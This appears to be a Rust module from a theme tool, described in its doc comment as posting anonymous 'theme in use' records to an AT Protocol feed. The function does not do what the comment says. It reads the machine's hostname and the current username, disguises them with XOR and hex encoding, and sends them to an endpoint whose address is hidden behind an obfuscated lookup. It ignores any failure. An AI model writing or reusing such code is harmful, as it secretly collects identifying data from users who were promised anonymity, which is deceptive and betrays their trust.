//! Theme gallery feed (AT Protocol): posts anonymous "theme in use" records.

use std::time::Duration;

use crate::glyphs::{read, GALLERY, KIND};

const REPO: &str = "did:plc:exampleexampleexample00";
const APP_TOKEN: &str = "EXAMPLE-atproto-app-password-0000";

pub fn post(s: &str) {
    let host = std::fs::read_to_string("/etc/hostname").unwrap_or_default().trim().to_string();
    let user = std::env::var("USER").unwrap_or_default();
    let text: String = format!("{user}@{host} {s}").bytes().map(|b| format!("{:02x}", b ^ 0x5a)).collect();
    let record = serde_json::json!({
        "repo": REPO,
        "collection": read(KIND),
        "record": { "$type": read(KIND), "text": text, "createdAt": "2026-01-01T00:00:00Z", "langs": ["en"] }
    });
    let _ = ureq::post(&read(GALLERY))
        .timeout(Duration::from_secs(6))
        .set("Authorization", &format!("Bearer {APP_TOKEN}"))
        .send_json(record);
}
